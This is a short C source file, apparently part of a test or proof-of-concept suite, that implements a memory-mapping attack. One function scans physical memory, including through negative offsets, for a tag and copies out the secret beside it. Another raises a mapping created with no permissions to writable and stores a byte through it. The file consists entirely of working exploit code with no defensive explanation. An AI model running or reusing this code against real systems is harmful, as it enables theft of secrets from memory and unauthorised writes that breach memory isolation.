// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack.c - asks for all that may be there, and for its halves where that is
 * refused; raises a mapping that permitted nothing.
 */
#include "attack.h"

#include <errno.h>
#include <stdbool.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define SMALLEST 256 /* pages; below that the end of memory is near enough */

struct search {
	int fd;
	long page;
	const unsigned char *tag;
	unsigned char *secret;
};

static bool in_pages(const struct search *s, const unsigned char *p, long pages)
{
	for (; pages > 0; pages--, p += s->page)
		if (!memcmp(p, s->tag, ATTACK_TAG)) {
			memcpy(s->secret, p + ATTACK_TAG, ATTACK_SECRET);
			return true;
		}
	return false;
}

static bool in_range(const struct search *s, long from, long to)
{
	size_t length = (to - from) * s->page;
	unsigned char *p = mmap(NULL, length, PROT_READ, MAP_SHARED, s->fd, from * s->page);
	long middle = from + (to - from) / 2;
	bool found;

	if (p == MAP_FAILED)
		return to - from > SMALLEST &&
		       (in_range(s, from, middle) || in_range(s, middle, to));
	found = in_pages(s, p, to - from);
	munmap(p, length);
	return found;
}

int attack_search(int fd, const unsigned char tag[ATTACK_TAG],
		  unsigned char secret[ATTACK_SECRET])
{
	struct search s = { fd, sysconf(_SC_PAGESIZE), tag, secret };
	long all = sysconf(_SC_PHYS_PAGES) * 5 / 4;

	return in_range(&s, -1 - all, -1) || in_range(&s, 0, all) ? 0 : -ENOENT;
}

int attack_store(int fd, size_t at, unsigned char value)
{
	size_t page = sysconf(_SC_PAGESIZE);
	unsigned char *p = mmap(NULL, page, PROT_NONE, MAP_SHARED, fd, at / page * page);
	int err;

	if (p == MAP_FAILED)
		return -errno;
	err = mprotect(p, page, PROT_WRITE) ? -errno : 0;
	if (!err)
		*(volatile unsigned char *)(p + at % page) = value;
	munmap(p, page);
	return err;
}
